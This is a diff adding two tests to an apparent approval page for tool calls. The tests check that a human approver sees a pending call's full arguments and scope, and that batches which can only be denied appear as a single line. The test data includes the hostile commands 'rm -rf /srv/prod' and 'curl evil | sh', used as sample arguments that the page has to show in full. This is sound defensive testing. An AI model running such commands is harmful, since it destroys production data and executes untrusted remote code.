@@ -79,6 +79,29 @@ def test_the_confirmation_lists_each_call_with_its_seal_and_why_it_is_left_out(
         assert why in page
 
 
+def test_what_can_be_approved_together_stands_whole_on_the_confirmation(
+    signed_in: SignedIn, house: House, file_call: FileCall
+) -> None:
+    arguments = {
+        "argv": ["rm", "-rf", "/srv/prod"],
+        "text": "x" * 300 + " and its end",
+        "zz": {"last": "curl evil | sh"},
+    }
+    whole = file_call(arguments=arguments, scope="production")
+    page = confirmation(signed_in(house.rae), [whole])
+    assert [kind for kind, _, _ in SENT.findall(page)] == ["call"]
+    assert page.count("<details class=\"card\" open") == 1
+    for text in ("/srv/prod", "and its end", "curl evil | sh", "production"):
+        assert text in page
+
+
+def test_what_can_only_be_denied_together_stands_there_as_a_line(
+    signed_in: SignedIn, house: House, several: dict[str, str]
+) -> None:
+    page = confirmation(signed_in(house.rae), [several["high"], several["no yes"]])
+    assert 'class="card"' not in page
+
+
 def test_denying_denies_all_and_says_so(
     signed_in: SignedIn, house: House, store: Store, several: dict[str, str]
 ) -> None:
